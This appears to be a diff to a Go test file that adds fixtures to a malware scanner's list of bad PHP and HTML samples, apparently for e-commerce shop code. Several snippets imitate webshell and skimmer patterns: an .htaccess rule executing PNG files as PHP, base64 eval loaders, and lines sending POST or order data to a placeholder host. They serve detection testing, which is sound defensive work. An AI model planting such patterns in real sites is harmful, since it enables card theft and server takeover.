@@ -95,6 +95,14 @@ var badSamples = []sample{
 	{"php.globals_encoded_names", "app/code/local/A/ge.php", phpHead + "$GLOBALS['_1234_'] = Array(base64_decode('eA=='));\n", 3},
 	{"php.substitution_decoder", "app/code/local/A/sd.php", phpHead + "for ($i = 0; $i < strlen($s); $i++) { $o .= isset($t[$s[$i]]) ? $t[$s[$i]] : $s[$i]; } $f = base64_decode($o);\n", 3},
 	{"php.upload_named_by_client", "app/code/local/A/un.php", phpHead + "$n = $_FILES['f']['name']; move_uploaded_file($t, $d . $n);\n", 3},
+	{"any.htaccess_files_image_handler", "app/code/local/A/hf.php", "<Files *x.png>\nForceType application/x-httpd-php\n</Files>\n", 1},
+	{"php.post_to_static_file", "app/code/local/A/ps.php", phpHead + "if ($_POST) { $f = '/var/www/media/x.gif'; $h = fopen($f, 'a'); }\n", 3},
+	{"php.reversed_url", "app/code/local/A/ru.php", phpHead + "$u = strrev('dilavni.elpmaxe//:sptth');\n", 3},
+	{"php.geo_mailer", "app/code/local/A/gm.php", phpHead + "$g = 'geoplugin'; mail($a, $b, $g);\n", 3},
+	{"php.eval_bareword_base64", "app/code/local/A/eb.php", phpHead + "if (false) eval(base64_decode(ZWNobyAnbG9vay1hbGlrZSc7ZWNobyAnbG9vay1hbGlrZSc7));\n", 3},
+	{"php.eval_close_tag_decoded", "app/code/local/A/ec.php", phpHead + "if (false) eval('?>' . base64_decode('eA=='));\n", 3},
+	{"php.request_forwarded_encoded", "app/code/local/A/rf.php", phpHead + "$d = $_POST; $e = base64_encode(serialize($d)); file_get_contents('https://example.invalid/?d=' . $e);\n", 3},
+	{"php.order_posted_out", "app/code/local/A/op.php", phpHead + "$url = 'https://example.invalid/u.php';\n$o = $ev->getOrder(); curl_exec($ch);\n", 3},
 	{"html.script_atob", "errors/default/page.html", "<html>\n<script>var u=atob(\"aHR0cHM6Ly9leGFtcGxlLmludmFsaWQ=\");var s=document.createElement(\"script\");</script>\n</html>\n", 2},
 }
 
